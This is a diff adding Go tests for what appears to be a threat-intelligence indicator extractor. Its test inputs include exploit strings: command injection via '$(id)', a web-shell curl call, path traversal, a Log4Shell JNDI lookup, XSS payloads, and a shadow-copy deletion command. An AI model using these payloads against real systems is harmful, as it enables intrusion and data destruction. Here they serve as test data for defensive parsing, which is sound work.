@@ -62,3 +62,34 @@ func TestPathsOfWindowsAreWhole(t *testing.T) {
 		c.check(t)
 	}
 }
+
+func TestRequestsOfExploitsAreRead(t *testing.T) {
+	for _, c := range []said{
+		{intel.Social, "POST /cgi-bin/login.cgi HTTP/1.1\r\nHost: x\r\nContent-Type: a/b\r\n\r\nuser=admin&pass=$(id)\r\n", "argument:pass argument:user file:/cgi-bin/login.cgi input:$(id)"},
+		{intel.Social, `curl "http://10.0.0.1/shell?cmd=id"`, "argument:cmd file:/shell"},
+		{intel.Social, `curl -k 'https://TARGET:8443/vpn/../vpns/cfg/smb.conf'`, "file:/vpn/../vpns/cfg/smb.conf"},
+		{intel.Social, `curl -k https://<target>/a.php -d "id=1&x=../../b"`, "argument:id argument:x file:/a.php input:../../b"},
+		{intel.Social, `path: {{BaseURL}}/manager/html?user=admin`, "argument:user file:/manager/html"},
+		{intel.Social, `r = requests.post("http://target/api/login.php", json=x)`, "file:/api/login.php"},
+		{intel.Social, `send ${jndi:ldap://192.0.2.9:1389/a} as name`, "input:${jndi:ldap://192.0.2.9:1389/a} ipv4:192.0.2.9 port:1389/tcp url:ldap://192.0.2.9:1389/a"},
+		{intel.Social, `send <script>alert(1)</script> via q`, "input:<script>alert(1)</script>"},
+		{intel.Social, `send <img src=x onerror=alert(1)> via q`, "input:<img src=x onerror=alert(1)>"},
+		{intel.Social, `the page has <script src=x></script> in it`, ""},
+	} {
+		c.check(t)
+	}
+}
+
+func TestWhatIntrudersInstallIsRead(t *testing.T) {
+	for _, c := range []said{
+		{intel.Report, `a service named "WinUpdSvc" starts`, "service:WinUpdSvc"},
+		{intel.Report, `the service "Cloud Drive" is used`, ""},
+		{intel.Report, `the scheduled task "EvilTask" runs`, "scheduled-task:EvilTask"},
+		{intel.Report, `the task "clean the house" waits`, ""},
+		{intel.Report, `the command "vssadmin delete shadows /all" runs`, "command:vssadmin delete shadows /all"},
+		{intel.Report, `the backdoor knows the command "upload file"`, ""},
+		{intel.Report, `CreateMutexA(NULL, FALSE, "evil_mtx_77");`, "mutex:evil_mtx_77"},
+	} {
+		c.check(t)
+	}
+}
